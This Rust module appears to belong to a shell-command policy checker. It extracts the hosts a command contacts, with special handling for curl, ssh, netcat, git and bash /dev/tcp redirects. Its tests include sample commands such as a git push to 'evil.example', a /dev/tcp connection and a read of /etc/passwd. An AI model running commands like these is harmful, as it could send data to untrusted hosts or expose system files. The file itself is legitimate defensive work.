//! Hosts that a command names.

use std::collections::BTreeSet;

use super::GitFacts;
use crate::policy::shell::Simple;

/// The hosts that stand in a command's arguments, lower-case, and those that its program talks to by default.
pub(super) fn of(simple: &Simple, git: Option<&GitFacts>) -> BTreeSet<String> {
    let mut hosts = BTreeSet::new();
    let program = simple.program().unwrap_or_default();
    let words = simple.arguments();
    for word in words {
        // A URL names a host whatever program it is given to.
        if let Some(host) = of_url(&word.text) {
            hosts.insert(host);
        }
    }
    let plain: Vec<&str> =
        words.iter().filter(|w| w.known && !w.text.starts_with('-')).map(|w| w.text.as_str()).collect();
    match program {
        "curl" | "wget" | "http" | "https" | "xh" => {
            hosts.extend(plain.iter().filter(|w| !w.contains("://")).filter_map(|w| bare(w)));
        }
        "ssh" | "sftp" | "scp" | "rsync" | "mosh" => {
            for word in &plain {
                let scp = word.split_once(':').map(|(host, _)| host);
                let login = (program == "ssh" || program == "mosh").then_some(*word);
                if let Some(host) = scp.or(login) {
                    hosts.extend(bare(host.rsplit('@').next().unwrap_or(host)));
                }
            }
        }
        "nc" | "ncat" | "netcat" | "telnet" | "ping" | "dig" | "nslookup" | "host" | "socat" => {
            for word in &plain {
                for part in word.split([':', ',']) {
                    hosts.extend(bare(part).filter(|h| h.contains('.')));
                }
            }
        }
        "git" => {
            let of_git =
                git.into_iter().flat_map(|g| g.rest.iter().map(|w| w.text.as_str()).chain([g.remote.as_str()]));
            for word in of_git {
                // `user@host:path`
                if !word.contains("://")
                    && let Some((host, _)) = word.split_once(':')
                    && let Some((_, host)) = host.split_once('@')
                {
                    hosts.extend(bare(host));
                }
            }
        }
        _ => {}
    }
    for path in simple.redirects.iter().map(|r| r.target.text.as_str()).chain(plain.iter().copied()) {
        // What bash makes a connection of.
        let socket = path.strip_prefix("/dev/tcp/").or_else(|| path.strip_prefix("/dev/udp/"));
        hosts.extend(socket.and_then(|s| bare(s.split('/').next().unwrap_or_default())));
    }
    hosts
}

/// The host that an address names, in lower case without port; `None` when it names none.
pub fn of_url(text: &str) -> Option<String> {
    let at = text.find("://")?;
    let scheme = text.get(..at)?.rsplit(|c: char| !c.is_ascii_alphanumeric()).next()?;
    if matches!(scheme, "" | "file" | "data") {
        return None;
    }
    let rest = text.get(at.saturating_add(3)..)?;
    let authority = rest.split(['/', '?', '#', '\\', '"', '\'', ' ']).next()?;
    bare(authority.rsplit('@').next()?)
}

/// A host without port and brackets; `None` when it is none.
fn bare(text: &str) -> Option<String> {
    let text = text.split(['/', '?', '#']).next()?;
    let host = match text.strip_prefix('[') {
        Some(v6) => v6.split(']').next()?,
        None if text.matches(':').count() > 1 => text,
        None => text.split(':').next()?,
    };
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    let fine = !host.is_empty() && host.bytes().all(|c| c.is_ascii_alphanumeric() || b"-._:".contains(&c));
    fine.then_some(host)
}

#[cfg(test)]
mod tests {
    use crate::policy::shell::{Limits, analyse};

    fn hosts(text: &str) -> Vec<String> {
        let script = analyse(text, Limits::default());
        script.commands.iter().flat_map(|c| super::super::Facts::of(c, "b").hosts).collect()
    }

    #[test]
    fn hosts_are_found_in_every_spelling() {
        for (text, want) in [
            ("curl -s https://User:pw@Example.COM:8443/x?y=http://a", "example.com"),
            ("curl example.com/x", "example.com"),
            ("wget http://[::1]:80/", "::1"),
            ("git clone git@github.com:o/r.git", "github.com"),
            ("git push https://evil.example/x HEAD", "evil.example"),
            ("ssh -p 22 root@h.example ls", "h.example"),
            ("scp a u@h.example:/x", "h.example"),
            ("nc h.example 80", "h.example"),
            ("cat < /dev/tcp/1.2.3.4/80", "1.2.3.4"),
            ("pip install --index-url https://pypi.example/simple x", "pypi.example"),
            ("npm i --registry=https://npm.example", "npm.example"),
        ] {
            assert!(hosts(text).contains(&want.to_owned()), "{text}: {:?}", hosts(text));
        }
        assert_eq!(hosts("cat file:///etc/passwd a:b"), [""; 0]);
    }
}
